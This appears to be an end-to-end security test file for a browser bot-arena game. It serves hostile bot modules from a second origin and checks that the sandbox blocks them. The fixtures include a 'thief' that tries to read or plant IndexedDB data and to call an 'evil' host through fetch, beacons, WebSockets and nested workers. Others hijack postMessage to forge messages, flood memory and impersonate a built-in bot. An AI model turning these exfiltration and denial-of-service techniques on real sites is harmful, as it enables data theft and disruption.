// Hostile bots, served from another origin, against the built app (dist/) in headless Chromium.
// Each attack asserts what the person sees (the consent dialog, the ejection reason beside the
// bot's name) and that the page kept answering while it ran (an in-page monitor of the event
// loop's delay, and the longest main-thread task's CPU time in a trace: support/responsive.mjs). The other origin is a second server on this machine that logs every
// request: a bot that phones home leaves a line there.
//
//   node --test www/tests/security.e2e.test.mjs        (needs dist/: npm run build)

import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { serve, CHROMIUM } from './support/server.mjs';
import { plantSavedGame } from './support/saved-game.mjs';
import { ANSWER_MS, assertAnswered, monitorPage, watchPage } from './support/responsive.mjs';

const here = path.dirname(fileURLToPath(import.meta.url));
const dist = path.resolve(here, '../../dist');
const shots = path.join(here, 'screenshots');

let app;
let evil;
let browser;
/** Requests that reached the other origin, other than the page's own fetches of bot modules. */
const hits = [];

// ------------------------------------------------------------------ the hostile bots

/** Every way out a bot could try, reported in its log; none may reach the other origin. */
const thief = (home) => `
export const name = 'Thief';
const tried = [];
async function attempt(label, f) {
  try { await f(); tried.push(label + ': allowed'); } catch (e) { tried.push(label + ': blocked'); }
}
export async function init() {
  const home = ${JSON.stringify(home)};
  await attempt('indexedDB read', () => new Promise((res, rej) => {
    const r = indexedDB.open('halite', 1);
    r.onsuccess = () => {
      const db = r.result;
      const tx = db.transaction('games-in-progress', 'readwrite');
      tx.objectStore('games-in-progress').put({ planted: true }, 'planted');
      tx.oncomplete = () => { db.close(); indexedDB.deleteDatabase('halite'); res(); };
      tx.onerror = () => rej(tx.error);
    };
    r.onerror = () => rej(r.error);
  }));
  await attempt('indexedDB tracking id', () => new Promise((res, rej) => { const r = indexedDB.open('tracker'); r.onsuccess = res; r.onerror = () => rej(r.error); }));
  await attempt('caches', () => caches.open('x'));
  await attempt('OPFS', async () => { const d = await navigator.storage.getDirectory(); await d.getFileHandle('id', { create: true }); });
  await attempt('fetch', () => fetch(home + 'ping?via=fetch'));
  await attempt('no-cors fetch', () => fetch(home + 'ping?via=nocors', { mode: 'no-cors' }));
  await attempt('XHR', () => new Promise((res, rej) => { const x = new XMLHttpRequest(); x.open('GET', home + 'ping?via=xhr'); x.onload = res; x.onerror = rej; x.send(); }));
  await attempt('sendBeacon', () => { if (!navigator.sendBeacon(home + 'ping?via=beacon', 'x')) throw new Error('refused'); });
  await attempt('importScripts', () => importScripts(home + 'ping?via=importScripts'));
  await attempt('import()', () => import(home + 'ping?via=import'));
  await attempt('WebSocket', () => new Promise((res, rej) => { const w = new WebSocket(home.replace('http', 'ws') + 'ping?via=ws'); w.onopen = res; w.onerror = rej; }));
  await attempt('EventSource', () => new Promise((res, rej) => { const s = new EventSource(home + 'ping?via=es'); s.onopen = res; s.onerror = () => { s.close(); rej(new Error('no')); }; }));
  await attempt('nested worker', () => new Promise((res, rej) => {
    const code = 'fetch(' + JSON.stringify(home + 'ping?via=nested') + ').then(() => postMessage("ok"), () => postMessage("no"))';
    const w = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
    w.onmessage = (e) => (e.data === 'ok' ? res() : rej(new Error('no')));
    w.onerror = rej;
  }));
  console.log(tried.join('\\n'));
}
export default function bot() { return []; }
`;

/** Claims to be the built-in Greedy. */
const impostor = `export const name = 'Greedy';\nexport default function bot() { return []; }\n`;

/** Answers 100 MB, and tries to post forged messages past the runtime. */
const flood = `
export const name = 'Flood';
let stolen = null;
const post = MessagePort.prototype.postMessage;
MessagePort.prototype.postMessage = function (...a) { stolen = this; return post.apply(this, a); };
export default function bot(obs) {
  // The worker's own channel is gone (and the bot host ends a worker that posts on it anyway).
  try {
    for (let i = 0; i < 50; i++) self.postMessage({ type: 'packed', turn: obs.turn ?? 0, keys: { length: 2 ** 32 - 1 }, values: new Int32Array(3) });
  } catch {}
  if (stolen) stolen.postMessage({ type: 'json', turn: 0, json: 'x'.repeat(1e8) });
  return 'x'.repeat(1e8);
}
`;

/** A forged answer: an object whose length is 2^32-1. */
const forged = `export const name = 'Forger';\nexport default function bot() { return { length: 2 ** 32 - 1 }; }\n`;

/** Never finishes starting. */
const never = `export const name = 'Never';\nexport function init() { return new Promise(() => {}); }\nexport default function bot() { return []; }\n`;

/** Fills its heap in its third turn (turn 2: the first is turn 0). */
const hog = `
export const name = 'Hog';
let turns = 0;
const keep = [];
export default function bot() {
  turns++;
  if (turns === 3) for (;;) keep.push(new Array(1e6).fill(turns));
  return [];
}
`;

const BOTS = { 'thief.js': null, 'impostor.js': impostor, 'flood.js': flood, 'forged.js': forged, 'never.js': never, 'hog.js': hog };

before(async () => {
  if (!fs.existsSync(path.join(dist, 'index.html'))) throw new Error('dist/ is missing: build the app first with `npm run build`');
  fs.mkdirSync(shots, { recursive: true });
  app = await serve(dist);
  // The other origin: serves the bots (with CORS, as a bot author's server must) and logs
  // every other request.
  const server = http.createServer((req, res) => {
    const name = (req.url ?? '').split('?')[0].replace(/^\//, '');
    if (name in BOTS) {
      const body = name === 'thief.js' ? thief(evil.url) : BOTS[name];
      res.writeHead(200, { 'Content-Type': 'text/javascript', 'Access-Control-Allow-Origin': '*', 'Cache-Control': 'no-store' });
      res.end(body);
      return;
    }
    hits.push(req.url);
    res.writeHead(200, { 'Content-Type': 'text/javascript', 'Access-Control-Allow-Origin': '*' });
    res.end('export default 1;');
  });
  server.on('upgrade', (req, socket) => {
    hits.push(`upgrade ${req.url}`);
    socket.destroy();
  });
  await new Promise((r) => server.listen(0, '127.0.0.1', r));
  evil = { url: `http://127.0.0.1:${server.address().port}/`, close: () => new Promise((r) => server.close(r)) };
  const { chromium } = await import('playwright-core');
  browser = await chromium.launch(CHROMIUM);
});

/** Browsers a test launched for itself. */
const ownBrowsers = [];

after(async () => {
  for (const b of ownBrowsers) await b.close().catch(() => {});
  await browser?.close();
  await app?.close();
  await evil?.close();
});

/** A page with a monitor of the event loop's delay (`window.__lag()`: the worst delay in ms since
 * the last call), recording CSP violations of the page itself and console errors. */
async function openPage(search, viewport = { width: 1280, height: 800 }, inBrowser = browser) {
  const context = await inBrowser.newContext({ viewport, hasTouch: viewport.width < 500 });
  await monitorPage(context);
  await context.addInitScript(() => {
    window.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) => window.__violations.push(`${e.violatedDirective} ${e.blockedURI}`));
  });
  const page = await context.newPage();
  page.errors = [];
  page.on('pageerror', (e) => page.errors.push(e.message));
  await page.goto(app.url + search);
  return { page, context };
}

const players = (page) => page.locator('.players').innerText();
const consent = (page) => page.locator('dialog[data-part="consent"]');

test('a third-party bot asks first; declining runs nothing and leaves a clear page', { timeout: 60_000 }, async () => {
  const before = hits.length;
  const { page, context } = await openPage(`?bots=${evil.url}thief.js,greedy&seed=3`);
  await consent(page).waitFor();
  const text = await consent(page).innerText();
  assert.match(text, new RegExp(evil.url.replace(/\/$/, '').replace(/[.:/]/g, '\\$&')));
  assert.match(text, /thief/);
  await page.screenshot({ path: path.join(shots, 'security-consent.png') });
  await page.getByRole('button', { name: /Don.t run/ }).click();
  await page.getByText('Nothing was run').waitFor();
  assert.equal(await page.locator('iframe.bot-host-frame').count(), 0, 'no bot host was started');
  await page.waitForTimeout(500);
  assert.equal(hits.length, before, 'nothing reached the other origin');
  assert.deepEqual(await page.evaluate(() => window.__violations), []);
  await context.close();
});

test('the thief reaches none of the app\u2019s storage and no request leaves the sandbox', { timeout: 90_000 }, async () => {
  const { page, context } = await openPage(`?bots=${evil.url}thief.js,greedy&seed=3&speed=30`);
  // A saved game of the person's, in the app's IndexedDB.
  await plantSavedGame(page, 1);
  await consent(page).waitFor();
  await page.getByRole('button', { name: /^Run/ }).click();
  // The thief names itself with its origin beside the name, and plays on.
  const watched = await watchPage(browser, page, async () => /Thief \(http:\/\/127\.0\.0\.1:\d+\)/.test(await players(page)) && (await page.locator('[data-part="frame"], .timeline').count()) > 0);
  await page.waitForTimeout(3000);
  // What the thief tried, from its own log at the first turn: every way out was blocked.
  await page.keyboard.press('z');
  await page.waitForFunction(() => /EventSource: /.test(document.querySelector('[data-part="log-body"]')?.textContent ?? ''), null, { timeout: 20_000 });
  const log = await page.locator('[data-part="log-body"]').innerText();
  for (const way of ['indexedDB read', 'indexedDB tracking id', 'caches', 'OPFS', 'fetch', 'no-cors fetch', 'XHR', 'sendBeacon', 'importScripts', 'import()', 'WebSocket', 'EventSource', 'nested worker']) {
    assert.ok(log.includes(`${way}: blocked`), `${way} is blocked (log: ${log})`);
  }
  const keys = await page.evaluate(
    () =>
      new Promise((res, rej) => {
        const r = indexedDB.open('halite', 1);
        r.onsuccess = () => {
          const req = r.result.transaction('games-in-progress').objectStore('games-in-progress').getAllKeys();
          req.onsuccess = () => res(req.result);
          req.onerror = rej;
        };
        r.onerror = rej;
      }),
  );
  assert.deepEqual(keys, ['my-game'], 'the saved game is intact and nothing was planted');
  assert.deepEqual(hits.filter((h) => /ping/.test(h)), [], 'no request reached the other origin');
  assertAnswered(assert, 'thief', watched);
  assert.deepEqual(await page.evaluate(() => window.__violations), [], 'the page itself broke no policy');
  assert.deepEqual(page.errors, []);
  await context.close();
});

test('an impostor "Greedy" shows its origin beside the name', { timeout: 60_000 }, async () => {
  const { page, context } = await openPage(`?bots=${evil.url}impostor.js,greedy&seed=3`);
  await consent(page).waitFor();
  await page.getByRole('button', { name: /^Run/ }).click();
  await page.waitForFunction(() => /Greedy \(http:\/\/127\.0\.0\.1:\d+\)/.test(document.querySelector('.players')?.textContent ?? ''), null, { timeout: 20_000 });
  const text = await players(page);
  assert.match(text, /Greedy \(http:\/\/127\.0\.0\.1:\d+\)/);
  // The built-in Greedy has no origin beside it.
  assert.match(text, /(^|\n)Greedy\n/);
  await context.close();
});

test('oversized answers and forged messages eject the bot as answering garbage, the page stays responsive', { timeout: 90_000 }, async () => {
  for (const file of ['flood.js', 'forged.js']) {
    const { page, context } = await openPage(`?bots=${evil.url}${file},greedy&seed=3`);
    await consent(page).waitFor();
    await page.getByRole('button', { name: /^Run/ }).click();
    assertAnswered(assert, file, await watchPage(browser, page, async () => /ejected at frame \d+: answered garbage/.test(await players(page))));
    assert.deepEqual(page.errors, []);
    await context.close();
  }
});

test('a link with no start limit asks first, and says so', { timeout: 60_000 }, async () => {
  const { page, context } = await openPage(`?bots=${evil.url}never.js,greedy&initMs=none&seed=3`);
  await consent(page).waitFor();
  assert.match(await consent(page).innerText(), /no time limit to start/);
  await page.getByRole('button', { name: /Don.t run/ }).click();
  await page.getByText('Nothing was run').waitFor();
  await context.close();
  // Agreed to the origin already in this tab, a link that only raises budgets... is asked again
  // in a new tab (consent lasts for the tab).
});

test('a bot that fills its heap crashes only its sandbox: the page goes on and says why', { timeout: 120_000 }, async () => {
  // A browser of its own: the attacks before this one leave memory behind in the shared one.
  const { chromium } = await import('playwright-core');
  const own = await chromium.launch(CHROMIUM);
  // Closed whatever happens (an open browser would keep this file's process from ending).
  ownBrowsers.push(own);
  const browser = own;
  const { page, context } = await openPage(`?bots=${evil.url}hog.js,greedy&seed=3&turnMs=30000`, undefined, own);
  await consent(page).waitFor();
  await page.getByRole('button', { name: /^Run/ }).click();
  // Playwright may take a crashed out-of-process frame for a crashed page: ask the page through
  // a DevTools session of its own.
  const cdp = await browser.newBrowserCDPSession();
  const { targetInfos } = await cdp.send('Target.getTargets');
  const target = targetInfos.find((t) => t.type === 'page' && t.url.includes('hog.js'));
  assert.ok(target, 'the page is a target');
  const { sessionId } = await cdp.send('Target.attachToTarget', { targetId: target.targetId, flatten: false });
  let serial = 0;
  const waiting = new Map();
  cdp.on('Target.receivedMessageFromTarget', (e) => {
    if (e.sessionId !== sessionId) return;
    const m = JSON.parse(e.message);
    waiting.get(m.id)?.(m);
    waiting.delete(m.id);
  });
  const evaluate = async (expression) => {
    const id = ++serial;
    const answer = new Promise((r) => waiting.set(id, r));
    await cdp.send('Target.sendMessageToTarget', { sessionId, message: JSON.stringify({ id, method: 'Runtime.evaluate', params: { expression, returnByValue: true } }) });
    const m = await answer;
    return m.result?.result?.value;
  };
  await evaluate('window.__lag()');
  let status = '';
  let worst = 0;
  const t0 = Date.now();
  const samples = [];
  while (Date.now() - t0 < 90_000) {
    const lag = await evaluate('window.__lag()');
    samples.push(`${Date.now() - t0}:${Math.round(lag)}`);
    worst = Math.max(worst, lag);
    status = await evaluate(`document.querySelector('.players')?.innerText ?? ''`);
    if (/sandbox crashed/.test(status)) break;
    await new Promise((r) => setTimeout(r, 200));
  }
  // The reason names only the bot whose sandbox it was.
  assert.match(status, /Hog \([^)]*\)\n\S+\nejected at frame 3: its sandbox crashed \(most likely out of memory\) in turn 2\n/);
  // The page still plays: the built-in bot's game goes on, frames keep coming.
  const frame = async () => Number(await evaluate(`Number((document.querySelector('[data-part="frame-total"]')?.textContent ?? '').replace(/[^0-9]/g, '') || -1)`));
  assert.ok((await frame()) >= 3, 'the game was played up to the crash');
  // Greedy, alone, wins the game: the page played it to its end.
  const t1 = Date.now();
  while (!/Greedy wins/.test(await evaluate(`document.querySelector('[data-part="result-title"]')?.textContent ?? ''`))) {
    assert.ok(Date.now() - t1 < 20_000, 'the game ends with Greedy the winner');
    await new Promise((r) => setTimeout(r, 200));
  }
  console.log(`# hog: worst event-loop delay ${worst.toFixed(0)} ms`);
  assert.ok(worst < ANSWER_MS, `the page answered within ${ANSWER_MS} ms (worst delay ${worst.toFixed(0)} ms; ${samples.join(' ')})`);
  await cdp.detach().catch(() => {});
  await context.close().catch(() => {});
  await own.close().catch(() => {});
});
